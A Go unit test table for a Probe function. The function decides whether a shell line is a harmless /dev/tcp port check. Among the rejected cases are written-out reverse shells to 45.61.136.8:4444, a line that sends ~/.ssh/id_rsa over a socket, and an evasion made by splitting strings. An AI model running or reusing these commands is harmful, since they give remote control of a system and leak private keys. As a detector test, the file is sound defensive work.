package shellcmd

import "testing"

// TestProbe: a one-statement shell that opens a socket and exits is a
// port check; a shell reading the socket, a second statement, a
// descriptor duplicated on the line or a /dev/tcp outside such a
// program is not.
func TestProbe(t *testing.T) {
	for _, tc := range []struct {
		line string
		want bool
	}{
		{`timeout 3 bash -c "exec 3<>/dev/tcp/$h/$p" 2>/dev/null && r=open || r=closed`, true},
		{`if timeout 3 bash -c 'exec 4<>/dev/tcp/'"$host"'/'"$port" 2>/dev/null; then`, true},
		{`bash -c 'exec 3<>/dev/udp/10.0.0.1/53 >/dev/null' && echo up`, true},
		{`/bin/sh -c "exec 3<>/dev/tcp/${HOST}/22"`, true},
		// A shell reads from the connection, or the descriptor lives on.
		{`timeout 3 bash -c "exec 3<>/dev/tcp/$h/$p; sh <&3 >&3 2>&3"`, false},
		{`bash -c "exec 3<>/dev/tcp/$h/$p" && bash -c 'exec 3<>/dev/tcp/h/1' 0<&3`, false},
		{`bash -c "exec 3<>/dev/tcp/h/1"; bash -i >& /dev/tcp/45.61.136.8/4444 0>&1`, false},
		// A probe spelled in pieces cannot stand for the real shell's socket.
		{`bash -i > /dev/tcp/45.61.136.8/4444 0>&1 2>&1; bash -c 'exec 3<>/dev/tc''p/h/1'`, false},
		{`exec 3<>/dev/tcp/45.61.136.8/4444`, false},
		{`bash -c "cat ~/.ssh/id_rsa >/dev/tcp/$h/9; exec 3<>/dev/tcp/$h/9"`, false},
		{`bash -c "exec 3<>/dev/tcp/$(cat /tmp/.h)/443"`, false},
		{`bash -c "exec 0<>/dev/tcp/h/1"`, false},
		{`bash -c "exec 3<>/dev/tcp/h/1 1>&3"`, false},
		{`python3 -c "exec 3<>/dev/tcp/h/1"`, false},
		{`nc -zv h 22`, false},
	} {
		if got := Probe(tc.line); got != tc.want {
			t.Errorf("Probe(%q) = %v, want %v", tc.line, got, tc.want)
		}
	}
}
